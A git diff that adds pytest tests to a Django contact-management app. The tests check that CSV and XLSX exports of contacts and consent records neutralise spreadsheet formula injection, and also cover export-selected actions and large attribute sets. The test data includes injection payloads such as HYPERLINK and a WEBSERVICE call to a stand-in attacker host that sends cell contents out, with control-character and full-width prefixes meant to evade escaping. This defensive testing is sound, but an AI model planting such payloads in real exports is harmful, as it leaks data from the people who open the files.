@@ -2,6 +2,11 @@
 
 import csv
 import io
+import json
+import re
+import unicodedata
+import xml.etree.ElementTree as ET
+import zipfile
 from datetime import timedelta
 
 import pytest
@@ -11,9 +16,11 @@ from django.core.management import call_command
 from django.test import Client
 from django.utils import timezone
 from openpyxl import load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from consent.models import ConsentEvent
 from consent.rules import Action
+from consent.services import Evidence
 from contacts.models import Contact
 from tests.consent_helpers import record
 from tests.factories import ContactFactory
@@ -40,7 +47,8 @@ def test_contacts_export_as_csv_with_states_and_formulas_escaped(staff_client, a
     rows = list(csv.DictReader(io.StringIO(body(response).decode())))
     [row] = rows
     assert row["phone"] == "+447911123456" and row["name"] == '\'=HYPERLINK("x")'
-    assert row["attr:city"] == "'@York"
+    # Attributes are one JSON column, whatever keys contacts have.
+    assert row["attributes"] == '{"city":"@York"}' and "attr:city" not in row
     assert (row["marketing_state"], row["service_state"]) == ("opted_in", "none")
 
 
@@ -100,3 +108,196 @@ def test_the_export_commands_write_files(ada, tmp_path):
     sheet = load_workbook(tmp_path / "c.xlsx", read_only=True).worksheets[0]
     assert len(list(sheet.iter_rows())) == 2
     assert (tmp_path / "l.csv").read_text().count("\n") == 2
+
+
+# --- Formulae: judged on the final bytes ------------------------------------------------
+
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+PHONE = re.compile(r"^\+\d{6,15}$")
+# What spreadsheets run as a formula: = + - @ first, also behind spaces or control and
+# format characters some programs drop, and in full-width or small forms (＝ ﹦ ＋ …).
+PREFIXES = ["", "\x01", "\x01\x02\x1f", "\t", "\r", "\n", " ", "  \t ", "\u3000", "\u200b"]
+TRIGGERS = ["=", "+", "-", "@", "＝", "﹦", "＋", "＠"]
+
+
+def runs_as_formula(text: str) -> bool:
+    rest = text.lstrip()
+    while rest and unicodedata.category(rest[0]).startswith(("C", "Z")):
+        rest = rest[1:].lstrip()
+    return unicodedata.normalize("NFKC", rest[:1])[:1] in ("=", "+", "-", "@")
+
+
+def sheet_cells(xlsx: bytes) -> list[tuple[str, ET.Element]]:
+    """(text, cell) of every cell in the workbook's first sheet, from the XML itself."""
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        root = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
+    cells = []
+    for cell in root.iter(f"{MAIN}c"):
+        texts = [t.text or "" for t in cell.iter(f"{MAIN}t")]
+        value = cell.find(f"{MAIN}v")
+        if not texts and value is not None:
+            texts = [value.text or ""]
+        cells.append(("".join(texts), cell))
+    return cells
+
+
+def as_a_workbook_holds(text: str) -> str:
+    # Dropped: control characters a workbook cannot hold; a raw CR reads back as LF (XML).
+    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
+
+
+def assert_no_formula(xlsx: bytes) -> list[str]:
+    texts = []
+    for text, cell in sheet_cells(xlsx):
+        assert cell.find(f"{MAIN}f") is None, ET.tostring(cell)
+        # A validated E.164 phone is the one text left as it is: its '+' is no formula.
+        assert not runs_as_formula(text) or PHONE.match(text), repr(text)
+        texts.append(text)
+    return texts
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+def test_no_cell_of_the_xlsx_contact_export_runs_as_a_formula(staff_client, prefix, trigger):
+    payload = f'{prefix}{trigger}HYPERLINK("http://evil.example","x")'
+    ContactFactory(name=payload, external_id=payload, attributes={"city": payload})
+
+    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
+
+    texts = assert_no_formula(body(response))
+    # The name is there, escaped after the writer dropped what a workbook cannot hold.
+    assert "'" + as_a_workbook_holds(payload) in texts
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+def test_no_cell_of_the_xlsx_ledger_export_runs_as_a_formula(staff_client, ada, prefix, trigger):
+    note = f'{prefix}{trigger}WEBSERVICE("http://evil.example/?"&A1)'
+    record(ada, Action.WITHDRAW, evidence=Evidence(note=note))
+    today = timezone.now().date().isoformat()
+
+    response = staff_client.get(
+        f"/admin/consent/consentevent/export/?start={today}&end={today}&format=xlsx"
+    )
+
+    texts = assert_no_formula(body(response))
+    assert "'" + as_a_workbook_holds(note) in texts
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+def test_every_csv_cell_that_would_run_as_a_formula_is_escaped(staff_client, prefix, trigger):
+    payload = f"{prefix}{trigger}1+1"
+    ContactFactory(name=payload, external_id=payload)
+
+    response = staff_client.get("/admin/contacts/contact/export/?format=csv")
+
+    [row] = list(csv.DictReader(io.StringIO(body(response).decode())))
+    assert row["name"] == row["external_id"] == f"'{payload}"
+    assert not any(runs_as_formula(v) for k, v in row.items() if k != "phone")
+
+
+def test_the_export_command_writes_no_formula_either(tmp_path):
+    ContactFactory(name='\x01=HYPERLINK("http://evil.example")')
+    call_command("export_contacts", str(tmp_path / "c.xlsx"))
+    texts = assert_no_formula((tmp_path / "c.xlsx").read_bytes())
+    assert '\'=HYPERLINK("http://evil.example")' in texts
+
+
+def test_escaped_cells_read_back_as_they_were(staff_client, policy, tmp_path, run_import):
+    contact = ContactFactory(name=" =1+1", external_id="＝SUM(A1)")
+    path = tmp_path / "contacts.xlsx"
+    path.write_bytes(body(staff_client.get("/admin/contacts/contact/export/?format=xlsx")))
+
+    report = run_import(path)
+
+    assert report.ok and report.counts()["skipped_rows"] == 1, report.errors.shown()
+    contact.refresh_from_db()
+    assert (contact.name, contact.external_id) == (" =1+1", "＝SUM(A1)")
+
+
+# --- "Export selected" ------------------------------------------------------------------
+
+
+@pytest.fixture
+def three(db):
+    return [ContactFactory(name=name) for name in ("Ada", "Bob", "Cy")]
+
+
+def export_selected(client, contacts, action: str):
+    return client.post(
+        "/admin/contacts/contact/",
+        {"action": action, "_selected_action": [str(c.pk) for c in contacts]},
+    )
+
+
+def test_export_selected_as_csv_has_only_the_selection(staff_client, three):
+    response = export_selected(staff_client, three[:2], "export_selected_csv")
+
+    assert response.status_code == 200
+    assert response["Content-Disposition"].endswith('.csv"')
+    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    assert sorted(r["name"] for r in rows) == ["Ada", "Bob"]
+
+
+def test_export_selected_as_xlsx_has_only_the_selection(staff_client, three):
+    response = export_selected(staff_client, three[1:], "export_selected_xlsx")
+
+    assert response.status_code == 200
+    assert response["Content-Disposition"].endswith('.xlsx"')
+    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+    header, *rows = list(sheet.iter_rows(values_only=True))
+    names = [dict(zip(header, row, strict=True))["name"] for row in rows]
+    assert sorted(names) == ["Bob", "Cy"]
+
+
+def test_export_selected_with_select_all_exports_the_filtered_list(staff_client, three):
+    response = staff_client.post(
+        "/admin/contacts/contact/?q=Bob",
+        {"action": "export_selected_csv", "select_across": "1", "_selected_action": "x"},
+    )
+
+    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    assert [r["name"] for r in rows] == ["Bob"]
+
+
+def test_export_selected_needs_the_view_permission(db, three):
+    user = get_user_model().objects.create_user("nobody", password="pw", is_staff=True)
+    client = Client()
+    client.force_login(user)
+    assert export_selected(client, three, "export_selected_csv").status_code == 403
+
+
+# --- Many attribute keys ----------------------------------------------------------------
+
+
+def test_an_export_with_100000_attribute_keys_keeps_within_the_column_limit(staff_client, settings):
+    # given 100 contacts with 1,000 keys each: 100,000 distinct keys in all
+    for n in range(100):
+        ContactFactory(attributes={f"key{n}-{i}": str(i) for i in range(1000)})
+
+    # then both formats answer, with the same few columns and each contact's attributes whole
+    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+    header, *rows = list(sheet.iter_rows(values_only=True))
+    assert len(header) <= settings.IMPORT_MAX_COLUMNS and len(rows) == 100
+    attributes = dict(zip(header, rows[0], strict=True))["attributes"]
+    assert len(json.loads(attributes)) == 1000
+
+    response = staff_client.get("/admin/contacts/contact/export/?format=csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    assert len(rows) == 100 and len(rows[0]) <= settings.IMPORT_MAX_COLUMNS
+    assert sum(len(json.loads(r["attributes"])) for r in rows) == 100_000
+
+
+def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_says_so(staff_client):
+    ContactFactory(attributes={f"key{i}": "x" * 100 for i in range(1000)})
+
+    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
+
+    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+    header, row = list(sheet.iter_rows(values_only=True))
+    attributes = dict(zip(header, row, strict=True))["attributes"]
+    assert len(attributes) == 32_767 and attributes.endswith("the CSV export has it whole]")
